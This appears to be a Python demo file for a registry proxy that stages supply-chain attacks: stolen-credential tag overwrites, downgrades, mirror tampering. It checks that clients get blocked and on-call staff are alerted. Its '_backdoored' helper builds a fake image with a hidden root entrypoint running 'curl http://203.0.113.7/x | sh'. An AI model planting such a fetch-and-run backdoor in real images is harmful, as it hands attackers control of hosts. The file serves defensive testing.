"""The stories. Each is played for real: somebody changes the upstream, clients pull through the proxy, somebody on call is told.

What everybody must see is written down with it. A story that ends otherwise is a defect, and is told as one.
"""

from __future__ import annotations

import asyncio
from collections.abc import Awaitable, Callable, Mapping
from dataclasses import dataclass, field

from proxy.demo.clients import Client, Seen
from proxy.demo.pictures import Picture, image
from proxy.demo.sink import Alert
from proxy.demo.stage import REGISTRY, Stage
from storage.digest import Digest
from storage.reference import Repository

#: Seconds within which somebody on call must have been told. The upstream is asked every two.
PATIENCE = 30.0
_EARLY, _LATE = "2026-03-01T12:00:00Z", "2026-04-01T12:00:00Z"


@dataclass(frozen=True, slots=True)
class Line:
    """One line of what was seen: a plot line, a pull, or an alert; ``right``: it is what had to be seen."""

    text: str
    seen: Seen | None = None
    alert: Alert | None = None
    right: bool = True


@dataclass(slots=True)
class Scene:
    """One story while it is played. Grows line by line; ``show`` is called with each."""

    stage: Stage
    show: Callable[[Line], None]
    lines: list[Line] = field(default_factory=list)

    def tell(self, text: str) -> None:
        """What somebody does."""
        self._add(Line(text))

    async def pull(self, client: int, name: str, tag: str, wanted: Picture | None) -> None:
        """A client pulls, and must end up with ``wanted``; None: with nothing."""
        puller: Client = self.stage.clients[client % len(self.stage.clients)]
        seen = await puller.pull(Repository.of(REGISTRY, name), tag)
        digest: Digest | None = None if wanted is None else wanted.digest
        outage = wanted is None and seen.status not in {200, 403}
        self._add(Line("", seen=seen, right=seen.digest == digest and not outage))

    async def alert(self, kind: str, subject: str) -> None:
        """Somebody on call must be told."""
        heard = await self.stage.on_call.hears(kind, subject, PATIENCE)
        text = "" if heard is not None else f"no alert {kind} about {subject} within {PATIENCE:g} s"
        self._add(Line(text, alert=heard, right=heard is not None))

    async def listed(self, name: str) -> None:
        """Which tags there are must be known, or those that follow would not be new."""
        try:
            await self.stage.listed(name, PATIENCE)
        except TimeoutError:
            self._add(Line(f"the tags of {REGISTRY}/{name} were not listed within {PATIENCE:g} s", right=False))

    def _add(self, line: Line) -> None:
        self.lines.append(line)
        self.show(line)


def _app(version: str, *, created: str = _EARLY, **options: str) -> Picture:
    return image(version, created=created, files={"app": f"#!/bin/sh\necho {version}\n"}, **options)


def _backdoored(version: str) -> Picture:
    files = {"app": f"#!/bin/sh\necho {version}\n", "usr/bin/.x": "#!/bin/sh\ncurl -s http://203.0.113.7/x | sh\n"}
    return image(version, created=_LATE, files=files, entrypoint="/usr/bin/.x", user="0")


async def stolen_credentials(scene: Scene) -> None:
    """Somebody has the publisher's password, but not the key: five tags overwritten, two created."""
    shelf, publisher = scene.stage.shelf, scene.stage.publisher
    tags = [f"v1.{number}" for number in range(5)]
    good = {tag: _app(f"web {tag}") for tag in tags}
    for tag, picture in good.items():
        await shelf.push("shop/web", tag, picture, publisher)
    scene.tell("The publisher has released five versions of shop/web, each signed. Everybody pulls them.")
    for number, tag in enumerate(tags):
        await scene.pull(number, "shop/web", tag, good[tag])
    await scene.listed("shop/web")
    scene.tell("A thief with the publisher's password overwrites all five tags, and makes two new ones.")
    for tag in (*tags, "v1.5", "v2.0"):
        await shelf.push("shop/web", tag, _backdoored(f"web {tag}"))
    for number, tag in enumerate((*tags, "v1.5", "v2.0")):
        await scene.pull(number, "shop/web", tag, None)
    for tag in tags:
        await scene.alert("tag.overwritten", f"{REGISTRY}/shop/web:{tag}")
    for tag in ("v1.5", "v2.0"):
        await scene.alert("tag.created", f"{REGISTRY}/shop/web:{tag}")


async def unsigned_upstream(scene: Scene) -> None:
    """The same attack on images that nobody signs: what was seen first is what a tag means."""
    shelf, good = scene.stage.shelf, _app("base 3.20")
    await shelf.push("base/alpine", "3.20", good)
    scene.tell("base/alpine:3.20 is signed by nobody. Its first pull pins it.")
    await scene.pull(0, "base/alpine", "3.20", good)
    scene.tell("A thief overwrites it. Nobody pulls it, so nobody but the watcher looks.")
    await shelf.push("base/alpine", "3.20", _backdoored("base 3.20"))
    await scene.alert("tag.overwritten", f"{REGISTRY}/base/alpine:3.20")
    await scene.pull(1, "base/alpine", "3.20", None)
    scene.tell("The owner puts it back.")
    await shelf.tag("base/alpine", "3.20", good)
    await scene.pull(2, "base/alpine", "3.20", good)


async def rebuild(scene: Scene) -> None:
    """A routine rebuild by the same publisher: the tag follows after its cooldown."""
    shelf, publisher = scene.stage.shelf, scene.stage.publisher
    before, after = _app("api 1"), _app("api 1, rebuilt", created=_LATE)
    await shelf.push("shop/api", "latest", before, publisher)
    await scene.pull(0, "shop/api", "latest", before)
    scene.tell(
        f"The publisher rebuilds the image and signs it. The rule lets `latest` follow, {scene.stage.cooldown:g} seconds later."
    )
    await shelf.push("shop/api", "latest", after, publisher)
    await scene.pull(1, "shop/api", "latest", before)
    await scene.alert("tag.rotation.pending", f"{REGISTRY}/shop/api:latest")
    await scene.alert("tag.rotated", f"{REGISTRY}/shop/api:latest")
    await scene.pull(2, "shop/api", "latest", after)


async def other_signer(scene: Scene) -> None:
    """Another signer, who is believed as well: the tag does not follow."""
    stage = scene.stage
    before, after = _app("jobs 1"), _app("jobs 2", created=_LATE)
    await stage.shelf.push("shop/jobs", "latest", before, stage.publisher)
    await scene.pull(0, "shop/jobs", "latest", before)
    scene.tell("A colleague, whose key counts as well, publishes the next version. The pin leans on the publisher.")
    await stage.shelf.push("shop/jobs", "latest", after, stage.colleague)
    await scene.pull(1, "shop/jobs", "latest", before)
    await scene.alert("tag.overwritten", f"{REGISTRY}/shop/jobs:latest")
    await asyncio.sleep(scene.stage.cooldown + 0.5)
    await scene.pull(2, "shop/jobs", "latest", before)


async def deleted(scene: Scene) -> None:
    """A tag that somebody deletes: whoever runs it can still pull it."""
    shelf, picture = scene.stage.shelf, _app("cli 3")
    await shelf.push("shop/cli", "v3", picture, scene.stage.publisher)
    await scene.pull(0, "shop/cli", "v3", picture)
    scene.tell("Somebody deletes the tag upstream.")
    await shelf.untag("shop/cli", "v3")
    await scene.pull(1, "shop/cli", "v3", picture)
    await scene.alert("tag.deleted", f"{REGISTRY}/shop/cli:v3")


async def downgrade(scene: Scene) -> None:
    """An old image with a known hole, validly signed in its day, put under a new version's tag."""
    shelf, publisher = scene.stage.shelf, scene.stage.publisher
    old, new = _app("gateway 1"), _app("gateway 2", created=_LATE)
    await shelf.push("shop/gateway", "v1", old, publisher)
    await shelf.push("shop/gateway", "v2", new, publisher)
    await scene.pull(0, "shop/gateway", "v2", new)
    scene.tell("Somebody lets v2 name the image of v1. Its signature is genuine; it is only old.")
    await shelf.tag("shop/gateway", "v2", old)
    await scene.pull(1, "shop/gateway", "v2", None)
    await scene.alert("tag.overwritten", f"{REGISTRY}/shop/gateway:v2")


async def tampering(scene: Scene) -> None:
    """A mirror on the way sends other bytes than it was asked for."""
    shelf, picture = scene.stage.shelf, _app("data 1")
    await shelf.push("shop/data", "v1", picture, scene.stage.publisher)
    scene.tell("The manifest and its signature are genuine. The mirror sends another layer, of the same length.")
    await shelf.tamper(picture.blobs[-1])
    seen = await scene.stage.clients[0].pull(Repository.of(REGISTRY, "shop/data"), "v1")
    scene.lines.append(Line("", seen=seen, right=not seen.served))
    scene.show(scene.lines[-1])
    await scene.alert("blob.tampered", f"{REGISTRY}/shop/data")


Story = Callable[[Scene], Awaitable[None]]

#: By name, in the order in which they are played.
STORIES: Mapping[str, Story] = {
    "stolen-credentials": stolen_credentials,
    "unsigned-upstream": unsigned_upstream,
    "rebuild": rebuild,
    "other-signer": other_signer,
    "deleted": deleted,
    "downgrade": downgrade,
    "tampering": tampering,
}


def title(story: Story) -> str:
    """What a story is about."""
    return (story.__doc__ or "").strip().splitlines()[0]
